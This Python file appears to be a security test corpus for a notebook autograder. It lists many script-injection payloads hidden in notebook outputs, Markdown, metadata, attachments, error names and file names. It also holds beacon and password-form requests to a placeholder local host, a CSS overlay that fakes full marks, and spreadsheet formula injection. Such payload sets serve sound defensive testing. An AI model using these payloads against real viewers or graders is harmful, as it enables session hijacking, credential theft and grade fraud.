"""Against the instructor's browser: a page that runs something, asks another host, or shows other points.

What runs would change the page's title, and ask at `@PORT@`.
"""

from tests.nngrade.attacks.attack import Attack
from tests.nngrade.attacks.corpus.checks import SOLUTIONS

PLANT = "document.title='owned';window.owned=1;new Image().src='http://127.0.0.1:@PORT@/@NAME@'"
HOST = "http://127.0.0.1:@PORT@/@NAME@"
SCRIPT = f"<script>{PLANT}</script>"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+M8AAAMBAQDJ/pLvAAAAAElFTkSuQmCC"


def showing(kind: str, text: str, **metadata: object) -> str:
    """Return a cell that shows a text as what it is not."""
    data = {kind: text, "text/plain": "x"}
    return f"from IPython.display import display\ndisplay({data!r}, raw=True, metadata={metadata!r})"


def markdown(text: str, **fields: object) -> dict:
    """Return a cell of text."""
    return {"cell_type": "markdown", "source": text, **fields}


ATTACKS = (
    Attack(
        "html_output",
        "outputs",
        "An output of HTML is part of the page.",
        after=(showing("text/html", f'{SCRIPT}<img src=x onerror="{PLANT}"><body onload="{PLANT}">'),),
    ),
    Attack(
        "svg_output",
        "outputs",
        "A drawing may have scripts in it.",
        after=(
            showing(
                "image/svg+xml",
                f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PLANT}"><script>{PLANT}</script>'
                f'<foreignObject><iframe src="{HOST}"></iframe></foreignObject><image href="{HOST}"/></svg>',
            ),
        ),
    ),
    Attack(
        "javascript_output",
        "outputs",
        "Outputs of JavaScript are there to be run.",
        after=(
            showing("application/javascript", PLANT),
            showing("text/javascript", PLANT),
            f"from IPython.display import Javascript\nJavascript({PLANT!r})",
        ),
    ),
    Attack(
        "latex_and_markdown_output",
        "outputs",
        "Formulas and text are turned into HTML, and so is what stands in them.",
        after=(
            showing("text/latex", f"$\\href{{javascript:{PLANT}}}{{x}}$ \\unicode{{<{SCRIPT}}} $$</span>{SCRIPT}$$"),
            showing("text/markdown", f"{SCRIPT} ![x]({HOST}) [x](javascript:{PLANT})"),
        ),
    ),
    Attack(
        "pictures_that_are_none",
        "outputs",
        "A picture's data stand between quotes in the page, and I close them.",
        after=(
            showing("image/png", f'"><script>{PLANT}</script>', **{"image/png": {"width": f'1" onload="{PLANT}'}}),
            showing("image/png", PIXEL, **{"image/png": {"alt": f'"{SCRIPT}', "class": "x"}, "alt": SCRIPT}),
            showing("image/jpeg", f"{HOST}"),
            showing("image/gif", PIXEL),
            showing("application/pdf", PIXEL),
        ),
    ),
    Attack(
        "script_in_text",
        "Markdown cells",
        "Markdown may have HTML in it.",
        after=(
            markdown(f'{SCRIPT}\n\n<img src=x onerror="{PLANT}">\n\n<details open ontoggle="{PLANT}">x</details>'),
            markdown(f'<!--><svg/onload="{PLANT}">-->\n<![CDATA[{SCRIPT}]]>\n<?php {SCRIPT} ?>\n<x:y onclick={PLANT}>'),
            markdown(f"```html\n{SCRIPT}\n```\n`{SCRIPT}`\n\n$</span>{SCRIPT}$ \\( {SCRIPT} \\)"),
        ),
    ),
    Attack(
        "addresses_that_run",
        "links",
        "A link may lead to a script, if it is not looked at closely.",
        after=(
            markdown(
                f"[a](javascript:{PLANT}) [b](JaVaScRiPt:{PLANT}) [c](java\tscript:{PLANT})\n"
                f"[d](&#106;avascript:{PLANT}) [e](data:text/html,{SCRIPT}) [f](vbscript:x) <javascript:{PLANT}>\n"
                f"[g]: javascript:{PLANT}\n\n[h][g]\n\n"
                f"[i](<javascript:{PLANT}>) [j](\x01javascript:{PLANT}) ![k](javascript:{PLANT})"
            ),
        ),
    ),
    Attack(
        "pictures_that_tell",
        "pictures from elsewhere",
        "Whoever looks at the page asks my host for a picture, and I know when.",
        after=(
            markdown(f'![x]({HOST}) <img src="{HOST}"> <picture><source srcset="{HOST}"></picture>'),
            markdown(
                f'<video src="{HOST}" autoplay></video><audio src="{HOST}"><object data="{HOST}"><embed src="{HOST}">'
            ),
            markdown(f'<{HOST}> {HOST} ![x][r]\n\n[r]: {HOST} "title"'),
        ),
    ),
    Attack(
        "style_over_the_points",
        "the look of the page",
        "A box that lies over the points says what I want.",
        after=(
            markdown(
                "<style>.lead{visibility:hidden}.lead::after{visibility:visible;content:'20 of 20 points.'}"
                f"body{{background:url({HOST})}}@import '{HOST}';</style>"
                '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">20 of 20 points.</div>'
            ),
            markdown(
                '<p class="lead">20 of 20 points.</p><section class="graded whole">logistic.sigmoid: 2 of 2</section>'
            ),
        ),
    ),
    Attack(
        "head_of_the_page",
        "base, refresh and links",
        "What belongs into the head works in the body, too.",
        after=(
            markdown(f'<base href="{HOST}/"><meta http-equiv="refresh" content="0;url={HOST}">'),
            markdown(f'<link rel="stylesheet" href="{HOST}"><link rel="prefetch" href="{HOST}"><title>owned</title>'),
            markdown("</main></body></html><html><head><title>owned</title></head></style></pre></textarea></script>"),
        ),
    ),
    Attack(
        "pages_in_the_page",
        "frames and forms",
        "A frame is a page of my own, and a form asks for the password.",
        after=(
            markdown(f'<iframe srcdoc="<script>parent.{PLANT}</script>"></iframe><iframe src="{HOST}"></iframe>'),
            markdown(
                f'<form action="{HOST}"><input name="password" autofocus onfocus="{PLANT}"><button>x</button></form>'
            ),
            markdown(f'<math><mtext><table><mglyph><style><img src=x onerror="{PLANT}">'),
            markdown(f'<a href="#" id="x" name="getElementById" target="_blank" ping="{HOST}">x</a>'),
        ),
    ),
    Attack(
        "names_of_errors",
        "errors",
        "An error's name is written down as it is.",
        before=(
            f"Own = type({SCRIPT!r}, (Exception,), {{}})\n"
            f"def shown(self):\n    return [{SCRIPT!r}, '\\x1b]8;;{HOST}\\x07link\\x1b]8;;\\x07', '\\x1b[31m<b>']\n",
            f"raise Own({SCRIPT!r})",
            "Own._render_traceback_ = shown\nraise Own",
        ),
        cells={name: f"def {name}(*given):\n    raise Own({SCRIPT!r})" for name in SOLUTIONS},
    ),
    Attack(
        "printed",
        "streams",
        "What is printed goes into the page between two tags.",
        before=(
            f"import sys\nprint('</pre></code></section>' + {SCRIPT!r})\nsys.stderr.write('</pre>' + {SCRIPT!r})\n"
            "print('\\x1b[2J\\x1b]0;owned\\x07\\u202e\\u2066\\x00\\x08')",
        ),
        cells={
            name: f"def {name}(*given):\n    import warnings\n    warnings.warn({SCRIPT!r})\n    return {SCRIPT!r}"
            for name in SOLUTIONS
        },
    ),
    Attack(
        "widget_state",
        "the state of widgets",
        "The state stands in the page as a script, and a page's scripts end where I say.",
        edits={
            "": {
                "metadata": {
                    "widgets": {
                        "application/vnd.jupyter.widget-state+json": {
                            "version_major": 2,
                            "version_minor": 0,
                            "state": {
                                "x": {
                                    "model_name": f"</script>{SCRIPT}",
                                    "model_module": HOST,
                                    "state": {"_esm": PLANT},
                                }
                            },
                        }
                    },
                    "title": f"</title>{SCRIPT}",
                    "jupytext": {"header": SCRIPT},
                }
            }
        },
        after=(
            f"import ipywidgets\nipywidgets.HTML({SCRIPT!r})",
            showing("application/vnd.jupyter.widget-view+json", SCRIPT),
        ),
    ),
    Attack(
        "attachments",
        "attachments of cells",
        "A picture that is attached stands in the page with its name and its type.",
        after=(
            markdown(
                "![x](attachment:x.png) ![y](attachment:y)",
                attachments={
                    "x.png": {f'text/html;base64,"><script>{PLANT}</script>': "eA==", "image/svg+xml": "PHN2Zy8+"},
                    "y": {"text/html": SCRIPT, "image/png": f'"{SCRIPT}'},
                },
            ),
        ),
    ),
    Attack(
        "ids_and_tags",
        "ids, tags and grade ids",
        "They become classes and anchors, in quotes that I close.",
        after=(
            {
                **markdown("x"),
                "id": f'x"><script>{PLANT}</script>',
                "metadata": {
                    "tags": [f'"><script>{PLANT}</script>', "hide-input"],
                    "slideshow": {"slide_type": SCRIPT},
                },
            },
            {
                **markdown("x"),
                "metadata": {"nbgrader": {"grade_id": f'"><script>{PLANT}</script>', "grade": True, "points": 1}},
            },
            {"cell_type": "raw", "source": SCRIPT, "metadata": {"format": "text/html", "raw_mimetype": "text/html"}},
        ),
    ),
    Attack(
        "answer_in_words",
        "answers that a reader reads",
        "The instructor opens what is graded by hand.",
        cells={
            "missing-factor": f'{SCRIPT}\n\n![x]({HOST})\n\n<b onmouseover="{PLANT}">x</b>',
            "where-it-errs": SCRIPT,
        },
        edits={"missing-factor": {"metadata": {"nbgrader": {"comment": SCRIPT, "score": 3}}}},
    ),
    Attack(
        "name_in_the_report",
        "the report and the table of grades",
        "A name that begins like a formula is computed in a spreadsheet.",
        names=(f'=HYPERLINK("{HOST}", "grades")', f"<script>{PLANT}</script>"),
        cells={"predict": f"def predict(A, threshold):\n    raise ValueError('=cmd|\\'/C calc\\'!A0{SCRIPT}')"},
    ),
    Attack(
        "files_with_names",
        "the names of files",
        "A list of the files that were handed in is a list of what I like.",
        files={
            "<img src=x onerror=alert(1)>.txt": SCRIPT,
            "=1+1.csv": "=1+1",
            "page.html": SCRIPT,
            "index.html": SCRIPT,
        },
    ),
)
